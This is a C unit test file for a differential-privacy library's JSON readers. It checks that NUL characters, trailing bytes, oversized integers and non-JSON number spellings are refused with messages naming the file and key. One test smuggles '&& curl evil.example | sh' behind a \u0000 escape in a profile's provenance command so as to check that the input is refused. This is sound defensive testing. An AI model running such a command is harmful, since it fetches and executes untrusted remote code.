/* SPDX-License-Identifier: Apache-2.0 */
/* tests/test_json_input.c: the rules every JSON reader shares (common/dpzo_json.c,
 * docs/files.md, issue 28 items 8 and 9): no U+0000 in any string (the escape \u0000 or a
 * raw NUL byte), nothing but whitespace after the top-level value, no integer literal
 * beyond 2^53; and a Gaussian profile's objective is null. Each reader (profiles, training
 * configurations, claim files, LMO grids, schedules, canary scores) is checked through the
 * library or the command line, and each refusal's message names the file and the key. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <cmocka.h>

#include "dpzo/audit_claim.h"
#include "dpzo/dpzo.h"
#include "dpzo/lmo.h"
#include "dpzo/profile.h"
#include "dpzo/trainer.h"

#include "cliutil.h"

#define PROFILE_IN DPZO_SOURCE_DIR "/examples/fmnist-dpzero-profile.json"

static char text[1 << 16];

static const char *at(const char *name)
{
    static char buf[4][1024];
    static int k;
    k = (k + 1) % 4;
    snprintf(buf[k], sizeof buf[k], "%s/json_input_%s", DPZO_TEST_TMP, name);
    return buf[k];
}

static void write_bytes(const char *path, const char *s, size_t n)
{
    FILE *f = fopen(path, "wb");
    assert_non_null(f);
    assert_int_equal(fwrite(s, 1, n, f), n);
    fclose(f);
}

static void write_text(const char *path, const char *s)
{
    write_bytes(path, s, strlen(s));
}

/* The example profile with `from` replaced by `to` (first occurrence). */
static void edited_profile(const char *from, const char *to, char *out, size_t size)
{
    char orig[1 << 16];
    slurp(PROFILE_IN, orig, sizeof orig);
    char *hit = strstr(orig, from);
    assert_non_null(hit);
    snprintf(out, size, "%.*s%s%s", (int)(hit - orig), orig, to, hit + strlen(from));
}

/* Sets the profile text's sha256 field to the checksum of its content. */
static void rehash(char *prof)
{
    dpzo_ctx *ctx = dpzo_ctx_new();
    char sha[65];
    assert_int_equal(dpzo_profile_checksum(ctx, prof, sha, NULL), DPZO_OK);
    char *s = strstr(prof, "\"sha256\":");
    assert_non_null(s);
    s = strchr(s + 9, '"');
    memcpy(s + 1, sha, 64);
    dpzo_ctx_free(ctx);
}

static dpzo_status read_profile(const char *path, char *msg, size_t size)
{
    dpzo_ctx *ctx = dpzo_ctx_new();
    dpzo_profile p;
    dpzo_status st = dpzo_profile_read_file(ctx, path, &p);
    snprintf(msg, size, "%s", dpzo_ctx_errmsg(ctx));
    dpzo_profile_free(&p);
    dpzo_ctx_free(ctx);
    return st;
}

static dpzo_status read_config(const char *path, char *msg, size_t size)
{
    dpzo_ctx *ctx = dpzo_ctx_new();
    dpzo_train_config c;
    dpzo_status st = dpzo_train_config_read_file(ctx, path, &c);
    snprintf(msg, size, "%s", dpzo_ctx_errmsg(ctx));
    dpzo_ctx_free(ctx);
    return st;
}

static dpzo_status read_claims(const char *path, char *msg, size_t size)
{
    dpzo_ctx *ctx = dpzo_ctx_new();
    dpzo_claim_spec *specs = NULL;
    size_t n = 0;
    dpzo_status st = dpzo_claims_read_file(ctx, path, &specs, &n);
    snprintf(msg, size, "%s", dpzo_ctx_errmsg(ctx));
    free(specs);
    dpzo_ctx_free(ctx);
    return st;
}

#define HAS(s, sub) assert_non_null(strstr((s), (sub)))

/* Item 8: \u0000 appended to provenance.command kept the checksum (cJSON's C string ends
 * there) while a JSON parser sees the extra text. */
static void test_nul_escape_in_profile_refused(void **state)
{
    (void)state;
    char msg[1024];
    slurp(PROFILE_IN, text, sizeof text);
    write_text(at("ok.json"), text);
    assert_int_equal(read_profile(at("ok.json"), msg, sizeof msg), DPZO_OK);
    edited_profile("examples/fmnist-dpzero-profile.json\"",
                   "examples/fmnist-dpzero-profile.json\\u0000 && curl evil.example | sh\"",
                   text, sizeof text);
    write_text(at("nul.json"), text);
    assert_int_not_equal(read_profile(at("nul.json"), msg, sizeof msg), DPZO_OK);
    HAS(msg, at("nul.json"));
    HAS(msg, "provenance.command");
    HAS(msg, "U+0000");
    /* the command line too: `profile verify` exits 2 instead of "valid, checksum OK" */
    char args[2048];
    snprintf(args, sizeof args, "profile verify %s", at("nul.json"));
    run_result *r = cli_run(args, "json_input");
    assert_int_equal(r->status, 2);
    HAS(r->err, "provenance.command");
    assert_null(strstr(r->out, "checksum OK"));
    /* the escape in a key, and with upper-case hex digits */
    edited_profile("\"created\":", "\"crea\\u0000ted\":", text, sizeof text);
    write_text(at("nulkey.json"), text);
    assert_int_not_equal(read_profile(at("nulkey.json"), msg, sizeof msg), DPZO_OK);
    HAS(msg, "U+0000");
    edited_profile("\"gaussian\",", "\"gaussian\\u0000\",", text, sizeof text);
    write_text(at("nulkind.json"), text);
    assert_int_not_equal(read_profile(at("nulkind.json"), msg, sizeof msg), DPZO_OK);
    HAS(msg, "noise.kind");
    /* an escaped backslash before u0000 is not the escape: "\\u0000" is 6 plain characters */
    edited_profile("examples/fmnist-dpzero-profile.json\"",
                   "examples/fmnist-dpzero-profile.json \\\\u0000\"", text, sizeof text);
    rehash(text);
    write_text(at("bs.json"), text);
    assert_int_equal(read_profile(at("bs.json"), msg, sizeof msg), DPZO_OK);
}

/* Item 8: a raw NUL byte and trailing bytes: one rule for all readers. */
static void test_nul_byte_and_trailing_bytes_refused(void **state)
{
    (void)state;
    char msg[1024], cfg[4096];
    slurp(DPZO_SOURCE_DIR "/examples/fmnist-dpzero.json", cfg, sizeof cfg);
    write_text(at("cfg_ok.json"), cfg);
    assert_int_equal(read_config(at("cfg_ok.json"), msg, sizeof msg), DPZO_OK);
    /* NUL and bytes after the object: accepted by the config reader before */
    char buf[8192];
    size_t n = strlen(cfg);
    memcpy(buf, cfg, n);
    memcpy(buf + n, "\0garbage", 8);
    write_bytes(at("cfg_nul.json"), buf, n + 8);
    assert_int_not_equal(read_config(at("cfg_nul.json"), msg, sizeof msg), DPZO_OK);
    HAS(msg, at("cfg_nul.json"));
    HAS(msg, "NUL byte");
    /* bytes after the object without a NUL */
    snprintf(buf, sizeof buf, "%s garbage", cfg);
    write_text(at("cfg_trail.json"), buf);
    assert_int_not_equal(read_config(at("cfg_trail.json"), msg, sizeof msg), DPZO_OK);
    HAS(msg, "after the JSON value");
    /* trailing whitespace stays accepted */
    snprintf(buf, sizeof buf, "%s \n\t\r\n", cfg);
    write_text(at("cfg_ws.json"), buf);
    assert_int_equal(read_config(at("cfg_ws.json"), msg, sizeof msg), DPZO_OK);
    /* a raw NUL inside a string of a profile */
    slurp(PROFILE_IN, text, sizeof text);
    n = strlen(text);
    char *c = strstr(text, "gaussian --epsilon");
    *c = '\0';
    write_bytes(at("p_nul.json"), text, n);
    assert_int_not_equal(read_profile(at("p_nul.json"), msg, sizeof msg), DPZO_OK);
    HAS(msg, "NUL byte");
    /* claim files: a profile is a claim */
    slurp(PROFILE_IN, text, sizeof text);
    n = strlen(text);
    assert_true(n + 2 <= sizeof text);
    memcpy(text + n, "}", 2); /* the profile, then a stray brace */
    write_text(at("claim_trail.json"), text);
    assert_int_not_equal(read_claims(at("claim_trail.json"), msg, sizeof msg), DPZO_OK);
    HAS(msg, "after the JSON value");
    /* a config key with the escape */
    snprintf(buf, sizeof buf, "%s", cfg);
    c = strstr(buf, "\"lambda\"");
    snprintf(text, sizeof text, "%.*s\"lamb\\u0000da\"%s", (int)(c - buf), buf, c + 8);
    write_text(at("cfg_key.json"), text);
    assert_int_not_equal(read_config(at("cfg_key.json"), msg, sizeof msg), DPZO_OK);
    HAS(msg, "U+0000");
    HAS(msg, "the key 'lamb'");
}

/* Item 8: the grid compared keys with strcmp, so "gamma\u0000x" read as "gamma". */
static void test_grid_schedule_scores(void **state)
{
    (void)state;
    dpzo_ctx *ctx = dpzo_ctx_new();
    dpzo_lmo_grid *g = NULL;
    assert_int_not_equal(dpzo_lmo_grid_from_json(ctx, "{\"gamma\\u0000x\": [[1, 2]]}", &g),
                         DPZO_OK);
    HAS(dpzo_ctx_errmsg(ctx), "U+0000");
    dpzo_lmo_grid_free(g);
    g = NULL;
    assert_int_not_equal(dpzo_lmo_grid_from_json(ctx, "{\"gamma\": [[1, 2]]} x", &g), DPZO_OK);
    HAS(dpzo_ctx_errmsg(ctx), "after the JSON value");
    dpzo_lmo_grid_free(g);
    dpzo_ctx_free(ctx);
    /* a schedule (CLI) with bytes after the array and with a big integer */
    write_text(at("sched.json"),
               "[{\"noise_multiplier\": 1.1, \"sampling_rate\": 0.01, \"steps\": 100}] x");
    char args[2048];
    snprintf(args, sizeof args, "epsilon --schedule %s --delta 1e-5", at("sched.json"));
    run_result *r = cli_run(args, "json_input");
    assert_int_equal(r->status, 2);
    HAS(r->err, "after the JSON value");
    write_text(at("sched.json"), "[{\"noise_multiplier\": 1.1, \"sampling_rate\": 0.01, "
                                 "\"steps\": 9007199254740993}]");
    r = cli_run(args, "json_input");
    assert_int_equal(r->status, 2);
    HAS(r->err, "2^53");
    HAS(r->err, "steps");
    /* canary scores */
    write_text(at("scores.json"), "{\"in\": [1, 2], \"out\": [0], \"o\\u0000ut\": [3]}");
    snprintf(args, sizeof args, "audit one-run --scores %s --positive 1", at("scores.json"));
    r = cli_run(args, "json_input");
    assert_int_equal(r->status, 2);
    HAS(r->err, "U+0000");
}

/* Item 9: 9007199254740993 read as 9007199254740992. */
static void test_integers_beyond_2p53_refused(void **state)
{
    (void)state;
    char msg[1024], cfg[4096], buf[8192];
    slurp(DPZO_SOURCE_DIR "/examples/fmnist-dpzero.json", cfg, sizeof cfg);
    snprintf(buf, sizeof buf, "%s", cfg);
    char *c = strstr(buf, "\"steps\": 10000,");
    snprintf(text, sizeof text, "%.*s\"steps\": 9007199254740993,%s", (int)(c - buf), buf,
             c + strlen("\"steps\": 10000,"));
    write_text(at("cfg_big.json"), text);
    assert_int_not_equal(read_config(at("cfg_big.json"), msg, sizeof msg), DPZO_OK);
    HAS(msg, "steps");
    HAS(msg, "2^53");
    HAS(msg, "9007199254740993");
    /* the seed, a key of an integer field nested in an object: the same */
    c = strstr(buf, "\"seed\": 1,");
    snprintf(text, sizeof text, "%.*s\"seed\": 18446744073709551617,%s", (int)(c - buf), buf,
             c + strlen("\"seed\": 1,"));
    write_text(at("cfg_seed.json"), text);
    assert_int_not_equal(read_config(at("cfg_seed.json"), msg, sizeof msg), DPZO_OK);
    HAS(msg, "seed");
    HAS(msg, "2^53");
    /* a profile's steps */
    edited_profile("\"steps\":\t10000", "\"steps\":\t9007199254740993", text, sizeof text);
    write_text(at("p_big.json"), text);
    assert_int_not_equal(read_profile(at("p_big.json"), msg, sizeof msg), DPZO_OK);
    HAS(msg, "accounting.steps");
    HAS(msg, "2^53");
    /* 2^53 itself and negative ones within range are read as before (steps 2^53 is a range
     * error of the profile, not of the JSON) */
    dpzo_ctx *ctx = dpzo_ctx_new();
    dpzo_lmo_grid *g = NULL;
    assert_int_not_equal(
        dpzo_lmo_grid_from_json(ctx, "{\"gamma\": [[-9007199254740993, 2]]}", &g), DPZO_OK);
    HAS(dpzo_ctx_errmsg(ctx), "gamma[0][0]");
    dpzo_lmo_grid_free(g);
    dpzo_ctx_free(ctx);
}

/* Numbers JSON's grammar refuses, which cJSON's strtod took (issue 30: the fuzzer wrote
 * "min_separation": 03 and the event was accounted with 3): refused by every reader, with
 * the key; JSON's own spellings stay accepted. */
static void test_non_json_numbers_refused(void **state)
{
    (void)state;
    static const char *bad[] = {"03", "-01", "00", "1.", "1.e5", "-0.e1"};
    static const char *good[] = {"0", "-0", "3", "0.5", "1e5", "1E+5", "-0.0e-0", "10"};
    dpzo_ctx *ctx = dpzo_ctx_new();
    char text[160];
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
        snprintf(text, sizeof text, "{\"type\": \"Gaussian\", \"noise_multiplier\": %s}", bad[i]);
        dpzo_event *e = NULL;
        assert_int_not_equal(dpzo_event_parse_json(ctx, text, &e), DPZO_OK);
        assert_null(e);
        HAS(dpzo_ctx_errmsg(ctx), "not written as JSON writes numbers");
        HAS(dpzo_ctx_errmsg(ctx), "noise_multiplier");
        HAS(dpzo_ctx_errmsg(ctx), bad[i]);
    }
    for (size_t i = 0; i < sizeof good / sizeof *good; i++) {
        snprintf(text, sizeof text, "{\"type\": \"Gaussian\", \"noise_multiplier\": %s}", good[i]);
        dpzo_event *e = NULL;
        if (dpzo_event_parse_json(ctx, text, &e) != DPZO_OK)
            fail_msg("%s refused: %s", good[i], dpzo_ctx_errmsg(ctx));
        dpzo_event_free(e);
    }
    /* the same in an LMO grid's array (another reader), and at the top level */
    dpzo_lmo_grid *g = NULL;
    assert_int_not_equal(dpzo_lmo_grid_from_json(ctx, "{\"gamma\": [[1, 02]]}", &g), DPZO_OK);
    HAS(dpzo_ctx_errmsg(ctx), "gamma[0][1]");
    dpzo_lmo_grid_free(g);
    dpzo_event *e = NULL;
    assert_int_not_equal(dpzo_event_parse_json(ctx, "07", &e), DPZO_OK);
    HAS(dpzo_ctx_errmsg(ctx), "(top level)");
    dpzo_ctx_free(ctx);
}

/* The example configuration with `from` replaced by `to` (first occurrence). */
static void edited_config(const char *from, const char *to, char *out, size_t size)
{
    char orig[8192];
    slurp(DPZO_SOURCE_DIR "/examples/fmnist-dpzero.json", orig, sizeof orig);
    char *hit = strstr(orig, from);
    assert_non_null(hit);
    snprintf(out, size, "%.*s%s%s", (int)(hit - orig), orig, to, hit + strlen(from));
}

static dpzo_status read_config_value(const char *path, dpzo_train_config *c, char *msg,
                                     size_t size)
{
    dpzo_ctx *ctx = dpzo_ctx_new();
    dpzo_status st = dpzo_train_config_read_file(ctx, path, c);
    snprintf(msg, size, "%s", dpzo_ctx_errmsg(ctx));
    dpzo_ctx_free(ctx);
    return st;
}

/* Item 9, the rest: an integer field written with an exponent or a fraction was read as the
 * nearest double, another integer ("seed": 9.007199254740993e15 as 2^53, a valid seed;
 * "steps": 192.00000000000000001 as 192). Integer fields now take only a literal that is
 * exactly their value; double fields keep the nearest double. */
static void test_integer_fields_take_exact_literals(void **state)
{
    (void)state;
    char msg[1024];
    dpzo_train_config c;
    /* the seed: 2^53 is in range, so the other integer was taken silently */
    edited_config("\"seed\": 1,", "\"seed\": 9.007199254740993e15,", text, sizeof text);
    write_text(at("cfg_seed_exp.json"), text);
    assert_int_not_equal(read_config_value(at("cfg_seed_exp.json"), &c, msg, sizeof msg),
                         DPZO_OK);
    HAS(msg, "'seed'");
    HAS(msg, "9.007199254740993e15");
    HAS(msg, "9007199254740992");
    /* a fraction that rounds to an integer */
    edited_config("\"eval_every\": 1000", "\"eval_every\": 1000.0000000000000001", text,
                  sizeof text);
    write_text(at("cfg_eval_frac.json"), text);
    assert_int_not_equal(read_config_value(at("cfg_eval_frac.json"), &c, msg, sizeof msg),
                         DPZO_OK);
    HAS(msg, "'eval_every'");
    HAS(msg, "1000.0000000000000001");
    /* an underflow to 0 */
    edited_config("\"eval_every\": 1000", "\"eval_every\": 1e-400", text, sizeof text);
    write_text(at("cfg_eval_tiny.json"), text);
    assert_int_not_equal(read_config_value(at("cfg_eval_tiny.json"), &c, msg, sizeof msg),
                         DPZO_OK);
    HAS(msg, "'eval_every'");
    /* exact spellings of an integer are read as before */
    static const char *const exact[] = {"1e4", "1.0e4", "10000.0", "100000e-1", "1E+4",
                                        "0.00001e9"};
    for (size_t i = 0; i < sizeof exact / sizeof *exact; i++) {
        char to[64];
        snprintf(to, sizeof to, "\"steps\": %s,", exact[i]);
        edited_config("\"steps\": 10000,", to, text, sizeof text);
        write_text(at("cfg_steps_exact.json"), text);
        if (read_config_value(at("cfg_steps_exact.json"), &c, msg, sizeof msg) != DPZO_OK)
            fail_msg("steps %s refused: %s", exact[i], msg);
        assert_int_equal(c.steps, 10000);
    }
    /* a profile's steps, re-checksummed (the checksum reads 2^53 too): only the spelling is
     * wrong */
    edited_profile("\"steps\":\t10000", "\"steps\":\t9.007199254740993e15", text,
                   sizeof text);
    rehash(text);
    write_text(at("p_steps_exp.json"), text);
    assert_int_not_equal(read_profile(at("p_steps_exp.json"), msg, sizeof msg), DPZO_OK);
    HAS(msg, "accounting.steps");
    HAS(msg, "9.007199254740993e15");
    char args[2048];
    snprintf(args, sizeof args, "profile verify %s", at("p_steps_exp.json"));
    run_result *r = cli_run(args, "json_input");
    assert_int_equal(r->status, 2);
    HAS(r->err, "accounting.steps");
    /* 1e4 is 10000: same canonical text, the stored checksum still holds */
    edited_profile("\"steps\":\t10000", "\"steps\":\t1e4", text, sizeof text);
    write_text(at("p_steps_1e4.json"), text);
    assert_int_equal(read_profile(at("p_steps_1e4.json"), msg, sizeof msg), DPZO_OK);
    /* a double field takes the nearest double: 9.0071992547409939e+15 is a double literal */
    edited_profile("\"epsilon\":\t2.9999971009692787", "\"epsilon\":\t9.0071992547409939e+15",
                   text, sizeof text);
    rehash(text);
    write_text(at("p_eps_big.json"), text);
    dpzo_ctx *ctx = dpzo_ctx_new();
    dpzo_profile p;
    assert_int_equal(dpzo_profile_read_file(ctx, at("p_eps_big.json"), &p), DPZO_OK);
    assert_true(p.epsilon == 9007199254740994.0);
    dpzo_profile_free(&p);
    dpzo_ctx_free(ctx);
    /* a claim file's steps */
    char claim[4096];
    slurp(DPZO_SOURCE_DIR "/docs/examples/claim-lmo-sst2.json", claim, sizeof claim);
    char *hit = strstr(claim, "\"steps\": 192,");
    assert_non_null(hit);
    snprintf(text, sizeof text, "%.*s\"steps\": 192.00000000000000001,%s", (int)(hit - claim),
             claim, hit + strlen("\"steps\": 192,"));
    write_text(at("claim_steps.json"), text);
    assert_int_not_equal(read_claims(at("claim_steps.json"), msg, sizeof msg), DPZO_OK);
    HAS(msg, "steps");
    HAS(msg, "192.00000000000000001");
    /* a schedule's steps (CLI) */
    write_text(at("sched_frac.json"), "[{\"noise_multiplier\": 1.1, \"sampling_rate\": 0.01, "
                                      "\"steps\": 100.00000000000000001}]");
    snprintf(args, sizeof args, "epsilon --schedule %s --delta 1e-5", at("sched_frac.json"));
    r = cli_run(args, "json_input");
    assert_int_equal(r->status, 2);
    HAS(r->err, "steps");
    HAS(r->err, "100.00000000000000001");
}

/* Item 9: an objective on a Gaussian profile (documented as null) was accepted. */
static void test_gaussian_objective_refused(void **state)
{
    (void)state;
    char msg[1024];
    edited_profile("\"objective\":\tnull",
                   "\"objective\":\t{\"name\": \"variance\", \"value\": 1, "
                   "\"usefulness_gamma\": null, \"usefulness\": null, \"mean_abs\": null, "
                   "\"variance\": null, \"grid\": null, \"grid_index\": null}",
                   text, sizeof text);
    rehash(text);
    write_text(at("p_obj.json"), text);
    assert_int_not_equal(read_profile(at("p_obj.json"), msg, sizeof msg), DPZO_OK);
    HAS(msg, "objective");
    HAS(msg, "null");
    HAS(msg, "gaussian");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_nul_escape_in_profile_refused),
        cmocka_unit_test(test_nul_byte_and_trailing_bytes_refused),
        cmocka_unit_test(test_grid_schedule_scores),
        cmocka_unit_test(test_integers_beyond_2p53_refused),
        cmocka_unit_test(test_non_json_numbers_refused),
        cmocka_unit_test(test_integer_fields_take_exact_literals),
        cmocka_unit_test(test_gaussian_objective_refused),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
